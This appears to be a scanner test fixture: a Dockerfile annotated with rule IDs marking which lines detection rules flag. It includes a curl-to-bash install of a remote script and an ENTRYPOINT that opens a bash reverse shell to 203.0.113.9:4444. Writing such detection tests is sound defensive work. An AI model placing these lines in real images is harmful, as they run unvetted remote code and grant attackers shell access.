# syntax=docker/dockerfile:1
# ok: dockerfile.exec.run
FROM debian:12-slim
# ruleid: dockerfile.exec.run
RUN apt-get update \
    && apt-get install -y curl ca-certificates \
    && rm -rf /var/lib/apt/lists/*
# ruleid: dockerfile.exec.run, bash.exec.remote_code
RUN curl -fsSL https://deb.nodesource.com/setup_20.x | bash -
# ruleid: dockerfile.exec.run
RUN --mount=type=cache,target=/root/.cache pip install -r requirements.txt
# ok: dockerfile.exec.run
COPY . /app
# ok: dockerfile.exec.run
ENV PATH="/app/bin:$PATH"
# ruleid: dockerfile.exec.run
CMD ["python", "-m", "app"]
# ruleid: dockerfile.exec.run, bash.proc.reverse_shell
ENTRYPOINT ["/bin/sh", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"]
